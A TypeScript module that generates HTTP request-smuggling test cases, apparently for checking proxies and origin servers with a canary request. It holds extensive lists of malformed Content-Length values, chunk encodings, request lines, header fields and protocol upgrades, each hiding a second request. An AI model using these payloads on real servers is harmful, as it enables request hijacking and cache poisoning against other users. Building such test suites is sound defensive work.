import { chunk, headOf, host, inBothFolders, type Paths, type Recipe, smuggled } from './attack.ts';

/*
 * Attacks that do not hang on how Transfer-Encoding is spelled: lengths, chunk sizes, names, targets, hosts, methods,
 * versions, upgrades, and requests behind requests.
 */

type Made = Recipe['made'];
const request = (line: (paths: Paths) => string, fields: (body: string) => readonly string[], body: Made): Made => {
  return (paths) => {
    const bytes = body(paths) as string;
    return headOf(line(paths), ...fields(bytes)) + bytes;
  };
};
const post = ({ outer }: Paths) => `POST ${outer} HTTP/1.1`;
const body: Made = (paths) => smuggled(paths);

/** Content-Length in spellings that some read as the length (`LEN`), as 0, or not at all. */
const lengths: readonly string[] = [
  ...[
    'Content-Length: +LEN',
    'Content-Length: -LEN',
    'Content-Length: 0xLEN',
    'Content-Length: LEN.0',
    'Content-Length: LENe0',
  ],
  ...[
    'Content-Length: LEN,LEN',
    'Content-Length: LEN, LEN',
    'Content-Length: 0, LEN',
    'Content-Length: LEN, 0',
    'Content-Length: LEN;',
  ],
  ...['Content-Length: 0\r\nContent-Length: LEN', 'Content-Length: LEN\r\nContent-Length: 0', 'Content-Length: "LEN"'],
  ...[
    'Content-Length: LEN\r\nContent-Length: LEN',
    'Content-Length : LEN',
    'Content-Length\t: LEN',
    ' Content-Length: LEN',
  ],
  ...[
    'Content-Length:\r\n LEN',
    'Content-Length: 0\r\n LEN',
    'Content-Length: LEN\r\n 0',
    'Content-Length: LEN 0',
    'Content-Length: LEN\0',
  ],
  ...[
    'Content-Length: \0LEN',
    'Content-Length: \x0bLEN',
    'Content-Length: LEN\x0b',
    'Content-Length: LEN\x85',
    'Content-Length: \xa0LEN',
  ],
  ...[
    'Content_Length: LEN',
    'Content Length: LEN',
    'Content-Length\0: LEN',
    'Content-Length;: LEN',
    'CONTENT-LENGTH: LEN',
    'Content-Lengt: LEN',
  ],
  ...[
    'X: y\nContent-Length: LEN',
    'X: y\rContent-Length: LEN',
    'Content-Length: LEN\nX: y',
    'Content-Length: LEN\rX: y',
  ],
  ...[
    'Content-Length: 00LEN',
    'Content-Length: 000000000000000000000LEN',
    'Content-Length: LEN_0',
    'Content-Length: LEN0\b',
  ],
  ...['Content-Length: ', 'Content-Length:', 'Content-Length: abc', 'Content-Length: \xb2', 'Content-Length: \xd9\xa1'],
  ...['Content-Length: 18446744073709551616', 'Content-Length: 18446744073709551615', 'Content-Length: 4294967296'],
  ...[
    'Content-Length: 9223372036854775808',
    'Content-Length: -1',
    'Content-Length: 1e9',
    'Content-Length: Infinity',
    'Content-Length: NaN',
  ],
  ...[
    'Content-Length: 0\r\nX-Content-Length: LEN',
    'Content-Length: 0\r\nContent_Length: LEN',
    'Content-Length: LEN\r\nContent_Length: 0',
  ],
  ...['Connection: Content-Length\r\nContent-Length: LEN', 'Connection: close, Content-Length\r\nContent-Length: LEN'],
  ...[
    'Connection: content-length\r\nConnection: keep-alive\r\nContent-Length: LEN',
    'Connection: Host\r\nContent-Length: LEN',
  ],
];

/** First lines of a chunk that holds S octets (S: hexadecimal). */
const chunkLines: readonly string[] = [
  ...[
    'S\n',
    'S\r',
    'S\r\r\n',
    'S \r\n',
    'S\t\r\n',
    ' S\r\n',
    '\tS\r\n',
    '+S\r\n',
    '-S\r\n',
    '0xS\r\n',
    '0XS\r\n',
    '0S\r\n',
  ],
  ...[
    '00000000000000000S\r\n',
    '10000000000000000S\r\n',
    'fffffffffffffffff\r\n',
    'ffffffffffffffff\r\n',
    '8000000000000000\r\n',
  ],
  ...[
    'S;\r\n',
    'S;a\n\r\n',
    'S;a\nb\r\n',
    'S;a\rb\r\n',
    'S;a\r\r\n',
    'S; a\r\n',
    'S ;a\r\n',
    'S;a=\r\n',
    'S;=a\r\n',
    'S;a="\r\n',
  ],
  ...[
    'S;a="\r\n"\r\n',
    'S;a="\n"\r\n',
    'S;a="\\\r\n"\r\n',
    "S;a='b'\r\n",
    'S;a=b;c=d\r\n',
    'S;\0\r\n',
    'S\0\r\n',
    '\0S\r\n',
  ],
  ...[
    'S,\r\n',
    'S x\r\n',
    'Sx\r\n',
    'S_0\r\n',
    'S.0\r\n',
    'Sh\r\n',
    '"S"\r\n',
    '\r\nS\r\n',
    '\nS\r\n',
    'S\x0b\r\n',
    'S\x85\r\n',
    '\xd9\xa1\r\n',
  ],
  ...[
    'S;a=b\n',
    ';a\r\n',
    '\r\n',
    '\n',
    'S#\r\n',
    'S//\r\n',
    'S\n\r',
    'S\x0d\x0d\x0a',
    `S;${'a'.repeat(300)}\r\n`,
    `S;${'a'.repeat(70_000)}\r\n`,
  ],
];

/** What stands behind a chunk's octets, and how the last chunk and the trailers end. */
const chunkEnds: readonly string[] = [
  '',
  '\n',
  '\r',
  'x\r\n',
  '\r\r\n',
  '\n\r',
  '\r\nx',
  '\0\r\n',
  'xx',
  '\r\n\r\n',
  ' \r\n',
];
const lastChunks: readonly string[] = [
  ...[
    '0\n\n',
    '0\r\r',
    '0\r\n\n',
    '0\n\r\n',
    '0\r\n\r',
    '00\r\n\r\n',
    '0;a\r\n\r\n',
    '0 \r\n\r\n',
    '-0\r\n\r\n',
    '0x0\r\n\r\n',
    '0\r\nX: y\r\n\r\n',
  ],
  ...[
    '0\r\nX: y\n\r\n',
    '0\r\nX: y\r\n\n',
    '0\r\nX\r\n\r\n',
    '0\r\n X: y\r\n\r\n',
    '0\r\nContent-Length: 9\r\n\r\n',
    '0\r\nHost: x\r\n\r\n',
  ],
  ...[
    '0\r\nX: y\0\r\n\r\n',
    '0\r\nConnection: close\r\n\r\n',
    '0\r\n:\r\n\r\n',
    '0\r\nX: y\rZ: w\r\n\r\n',
    '0\r\nGET / HTTP/1.1\r\n\r\n',
  ],
];

/** Request lines; OUT and CAN stand for the paths. */
const requestLines: readonly string[] = [
  ...[
    'POST OUT HTTP/1.1 ',
    'POST OUT HTTP/1.1\t',
    'POST  OUT HTTP/1.1',
    'POST\tOUT\tHTTP/1.1',
    'POST OUT  HTTP/1.1',
    ' POST OUT HTTP/1.1',
  ],
  ...[
    'POST OUT HTTP/1.1\n',
    'POST OUT HTTP/1.1\r',
    'POST OUT HTTP/1.1\0',
    'POST OUT\0 HTTP/1.1',
    'POST OUT\r HTTP/1.1',
    'POST OUT\n HTTP/1.1',
  ],
  ...[
    'POST OUT',
    'POST OUT HTTP/0.9',
    'POST OUT HTTP/1.2',
    'POST OUT HTTP/2.0',
    'POST OUT http/1.1',
    'POST OUT HTTP/1.10',
    'POST OUT HTTP/01.1',
  ],
  ...[
    'POST OUT HTTP/1.1 HTTP/1.1',
    'POST OUT HTTP/1.1 HTTP/1.0',
    'POST OUT HTTP/1.1\r\nCAN',
    'POST OUT?\r\nX: HTTP/1.1',
    'POST OUT#a HTTP/1.1',
  ],
  ...[
    'POST OUT HTTP/1.1\nGET CAN HTTP/1.1',
    'POST OUT HTTP/1.1\rGET CAN HTTP/1.1',
    'POST OUT\x0bHTTP/1.1',
    'POST\x0bOUT HTTP/1.1',
    'POST OUT\x85HTTP/1.1',
  ],
  ...[
    'POST /a HTTP/1.1 OUT HTTP/1.1',
    'POST OUT%20HTTP/1.1%0d%0aX:y HTTP/1.1',
    'post OUT HTTP/1.1',
    'POS\0T OUT HTTP/1.1',
    'POST: OUT HTTP/1.1',
  ],
  ...[
    'POST http://shop.exampleOUT HTTP/1.1',
    'POST http://other.exampleOUT HTTP/1.1',
    'POST https://shop.exampleOUT HTTP/1.1',
    'POST //other.exampleOUT HTTP/1.1',
  ],
  ...[
    'POST http://a@shop.exampleOUT HTTP/1.1',
    'POST http://shop.example:80OUT HTTP/1.1',
    'POST http:/shop.exampleOUT HTTP/1.1',
    'POST ftp://shop.exampleOUT HTTP/1.1',
  ],
  ...[
    'POST shop.exampleOUT HTTP/1.1',
    'POST @shop.exampleOUT HTTP/1.1',
    'POST \\OUT HTTP/1.1',
    'POST http://shop.example HTTP/1.1',
    'POST http://shop.example?OUT HTTP/1.1',
  ],
  ...[
    'POST * HTTP/1.1',
    'OPTIONS * HTTP/1.1',
    'CONNECT shop.example:80 HTTP/1.1',
    'CONNECT OUT HTTP/1.1',
    'TRACE OUT HTTP/1.1',
    'PRI * HTTP/2.0',
    'FROB OUT HTTP/1.1',
  ],
  ...[
    'GET OUT HTTP/1.1',
    'HEAD OUT HTTP/1.1',
    'DELETE OUT HTTP/1.1',
    'OPTIONS OUT HTTP/1.1',
    'PUT OUT HTTP/1.1',
    'PATCH OUT HTTP/1.1',
    'QUERY OUT HTTP/1.1',
  ],
  ...[
    'GET OUT HTTP/1.0',
    'POST OUT HTTP/1.0',
    'HEAD OUT HTTP/1.0',
    '\r\nPOST OUT HTTP/1.1',
    '\nPOST OUT HTTP/1.1',
    '\r\n\r\n\r\n\r\nPOST OUT HTTP/1.1',
  ],
];

/** Fields that tempt a proxy or an origin into reading the request otherwise; the body stands behind with its length. */
const temptations: readonly string[] = [
  ...[
    'Host: other.example',
    'Host : shop.example',
    'Host:\r\n shop.example',
    'Host: shop.example, other.example',
    ' Host: other.example',
  ],
  ...[
    'Host: shop.example\0',
    'Host: shop.example:80:80',
    'Host: shop.example/CAN',
    'Host: a@shop.example',
    'X: y\nHost: other.example',
    '\tX: y',
  ],
  ...[
    'X: y\n\nGET CAN HTTP/1.1',
    'X: y\r\rGET CAN HTTP/1.1',
    'X: y\n\r\nGET CAN HTTP/1.1\r\nX: y',
    'X: y\r\n\nGET CAN HTTP/1.1\r\nX: y',
    'X: y\r\n\rGET CAN HTTP/1.1',
  ],
  ...['X: y\r\n \r\nGET CAN HTTP/1.1', 'X: y\0\r\n\r\0\nGET CAN HTTP/1.1', 'X\r\n\r', 'X: y\x0b\x0bGET CAN HTTP/1.1'],
  ...[
    'GET CAN HTTP/1.1',
    'GET CAN HTTP/1.1: x',
    ': x',
    '=: x',
    'X',
    'X Y: z',
    'X\0: y',
    '[X]: y',
    'X(a): y',
    'X@: y',
    '\xff: y',
    'X: \xff',
    'X: y\x7f',
  ],
  ...[
    'Upgrade: h2c\r\nConnection: Upgrade, HTTP2-Settings\r\nHTTP2-Settings: AAMAAABkAAQAAP__',
    'Upgrade: websocket\r\nConnection: Upgrade',
  ],
  ...[
    'Upgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==',
    'Upgrade: TLS/1.0\r\nConnection: Upgrade',
  ],
  ...[
    'Expect: 100-continue',
    'Expect: 100-Continue',
    'Expect: 100-continue, x',
    'Expect: x 100-continue',
    'Expect : 100-continue',
    'Expect: \0',
    'Expect: 200-ok',
  ],
  ...[
    'Expect: 100-continue\r\nExpect: 100-continue',
    'Expect:\r\n 100-continue',
    'Expect: y 100-continue\r\nConnection: close',
    'TE: trailers',
    'TE: chunked',
  ],
  ...[
    'Connection: close',
    'Connection: keep-alive, close',
    'Connection: close\r\nConnection: keep-alive',
    'Keep-Alive: timeout=5, max=1',
    'Connection: Expect',
  ],
  ...[
    'Connection: X-Forwarded-For, Via, Host',
    'Trailer: Content-Length',
    'Content-Encoding: chunked',
    'X-HTTP-Method-Override: GET',
    'Max-Forwards: 0',
  ],
  ...[
    'Content-Type: message/http',
    'Content-Type: multipart/byteranges; boundary=x',
    'Range: bytes=0-0',
    'MIME-Version: 1.0',
    'X-Original-URL: CAN',
    'Sec-WebSocket-Key: x',
  ],
];

const filled = (text: string, { outer, canary }: Paths) => text.replaceAll('OUT', outer).replaceAll('CAN', canary);
const sized = (fields: string) => (bytes: string) => fields.replaceAll('LEN', String(bytes.length)).split('\r\n');
const recipes = (technique: string, spellings: readonly string[], made: (spelling: string) => Made): Recipe[] =>
  spellings.map((spelling) => ({ technique, says: JSON.stringify(spelling.slice(0, 80)), made: made(spelling) }));
const chunked = ['Transfer-Encoding: chunked'];

export const otherAttacks: readonly Recipe[] = [
  ...recipes('lengths', lengths, (spelling) => request(post, sized(spelling), body)),
  ...recipes('lengths, with GET', lengths, (spelling) =>
    request((paths) => `GET ${paths.outer} HTTP/1.1`, sized(spelling), body),
  ),
  ...recipes('lengths, HTTP/1.0', lengths, (spelling) =>
    request(
      (paths) => `POST ${paths.outer} HTTP/1.0`,
      (bytes) => ['Connection: keep-alive', ...sized(spelling)(bytes)],
      body,
    ),
  ),
  ...recipes('lengths beside chunks', lengths, (spelling) =>
    request(
      post,
      (bytes) => [...chunked, ...sized(spelling)(bytes)],
      (paths) => `0\r\n\r\n${smuggled(paths)}`,
    ),
  ),
  // The chunk holds the request; whoever takes its size for another one meets it.
  ...recipes('chunk sizes', chunkLines, (line) =>
    request(
      post,
      () => chunked,
      (paths) => {
        const bytes = smuggled(paths);
        return `${line.replace(/S/g, bytes.length.toString(16))}${bytes}\r\n0\r\n\r\n`;
      },
    ),
  ),
  ...recipes('chunk sizes, second chunk', chunkLines, (line) =>
    request(
      post,
      () => chunked,
      (paths) => {
        const bytes = smuggled(paths);
        return `${chunk('x')}${line.replace(/S/g, bytes.length.toString(16))}${bytes}\r\n0\r\n\r\n`;
      },
    ),
  ),
  // A line end that one reader takes and another does not: the request hides in the extension of a chunk.
  ...recipes('request in an extension', ['\n', '\r', '\0', '\r\r\n'], (end) =>
    request(
      post,
      () => chunked,
      (paths) => `1;a${end}x\r\n0\r\n\r\n${smuggled(paths)}\r\n0\r\n\r\n`,
    ),
  ),
  ...recipes('chunk ends', chunkEnds, (end) =>
    request(
      post,
      () => chunked,
      (paths) => `1\r\nx${end}${chunk(smuggled(paths))}0\r\n\r\n`,
    ),
  ),
  ...recipes('chunks that end early', chunkEnds, (end) =>
    request(
      post,
      () => chunked,
      (paths) => `1\r\nx${end}0\r\n\r\n${smuggled(paths)}`,
    ),
  ),
  ...recipes('last chunks', lastChunks, (last) =>
    request(
      post,
      () => chunked,
      (paths) => `${chunk('x')}${last}${smuggled(paths)}`,
    ),
  ),
  ...recipes('first lines', requestLines, (line) =>
    request(
      (paths) => filled(line, paths),
      (bytes) => [`Content-Length: ${bytes.length}`],
      body,
    ),
  ),
  ...recipes('first lines, chunked', requestLines, (line) =>
    request(
      (paths) => filled(line, paths),
      () => chunked,
      (paths) => `${chunk(smuggled(paths))}0\r\n\r\n`,
    ),
  ),
  ...recipes('first lines, no body', requestLines, (line) => (paths) => headOf(filled(line, paths)) + smuggled(paths)),
  ...recipes('fields', temptations, (fields) => (paths) => {
    const bytes = smuggled(paths);
    return headOf(post(paths), filled(fields, paths), `Content-Length: ${bytes.length}`) + bytes;
  }),
  ...recipes('fields, with GET', temptations, (fields) => (paths) => {
    const bytes = smuggled(paths);
    return headOf(`GET ${paths.outer} HTTP/1.1`, filled(fields, paths), `Content-Length: ${bytes.length}`) + bytes;
  }),
  ...recipes('fields, body later', temptations, (fields) => (paths) => {
    const bytes = smuggled(paths);
    return [headOf(post(paths), filled(fields, paths), `Content-Length: ${bytes.length}`), bytes];
  }),
  ...recipes('fields, no Host before them', temptations, (fields) => (paths) => {
    const bytes = smuggled(paths);
    return `${post(paths)}\r\n${filled(fields, paths)}\r\nHost: ${host}\r\nContent-Length: ${bytes.length}\r\n\r\n${bytes}`;
  }),
  ...inBothFolders(
    recipes('cut off', ['head', 'length', 'chunk', 'size', 'last'], (where) => (paths) => cutOff(where, paths)),
  ),
  ...recipes(
    'behind one another',
    [
      ...['pipelined', 'body then request', 'HEAD then request', 'close then request'],
      ...['WebSocket of no version then request', 'WebSocket then request', 'h2c then request'],
    ],
    (how) => (paths) => behind(how, paths),
  ),
];

/** Messages that never end: the origin must not read the next visitor's request as their rest. */
function cutOff(where: string, paths: Paths): string {
  if (where === 'head') return `${post(paths)}\r\nHost: ${host}\r\nX: `;
  if (where === 'length') return `${headOf(post(paths), 'Content-Length: 1000')}x`;
  if (where === 'chunk') return `${headOf(post(paths), ...chunked)}ff\r\nx`;
  if (where === 'size') return `${headOf(post(paths), ...chunked)}f`;
  return `${headOf(post(paths), ...chunked)}0\r\n`;
}

/** Requests behind requests, as they may be: the proxy must see them all, too. */
function behind(how: string, paths: Paths): string {
  const canary = smuggled(paths);
  if (how === 'pipelined') return headOf(`GET ${paths.outer} HTTP/1.1`) + canary + canary;
  if (how === 'body then request') return `${headOf(post(paths), 'Content-Length: 3')}abc${canary}`;
  if (how === 'HEAD then request') return headOf(`HEAD ${paths.outer} HTTP/1.1`) + canary;
  const get = `GET ${paths.outer} HTTP/1.1`;
  if (how === 'close then request') return headOf(get, 'Connection: close') + canary;
  if (how === 'h2c then request')
    return (
      headOf(get, 'Connection: Upgrade, HTTP2-Settings', 'Upgrade: h2c', 'HTTP2-Settings: AAMAAABkAAQAAP__') + canary
    );
  // Who opens a tunnel whatever the origin answers forwards the rest unseen.
  const version = how === 'WebSocket then request' ? '13' : '777';
  const offer = ['Connection: Upgrade', 'Upgrade: websocket', 'Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ=='];
  return headOf(get, ...offer, `Sec-WebSocket-Version: ${version}`) + canary;
}
